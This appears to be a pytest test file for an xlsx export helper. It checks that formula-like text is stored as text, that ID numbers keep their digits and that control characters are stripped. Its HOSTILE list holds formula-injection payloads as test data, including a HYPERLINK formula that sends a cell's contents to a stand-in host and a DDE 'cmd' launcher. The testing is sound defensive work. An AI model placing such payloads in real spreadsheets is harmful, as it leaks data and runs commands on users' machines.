"""The one xlsx writer: text stays text, never a formula."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook

from common.xlsx import workbook_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_starting_like_a_formula_is_written_as_text(value):
    content = workbook_bytes(["姓名"], [[value]])
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml  # no formula element anywhere
    cell = load_workbook(io.BytesIO(content)).active["A2"]
    assert cell.data_type == "s"
    assert cell.value.strip() == value.strip()  # XML reads a CR back as LF
    assert cell.number_format == "@"


def test_numbers_stay_numbers_and_id_numbers_stay_text():
    content = workbook_bytes(["身份证号", "人数"], [["360121199001011234", 3]])
    ws = load_workbook(io.BytesIO(content)).active
    assert ws["A2"].value == "360121199001011234"
    assert ws["B2"].value == 3
    assert ws["B2"].data_type == "n"


def test_control_characters_do_not_break_the_file():
    content = workbook_bytes(["备注"], [["坏\x00字\x07符"]])
    assert load_workbook(io.BytesIO(content)).active["A2"].value == "坏字符"
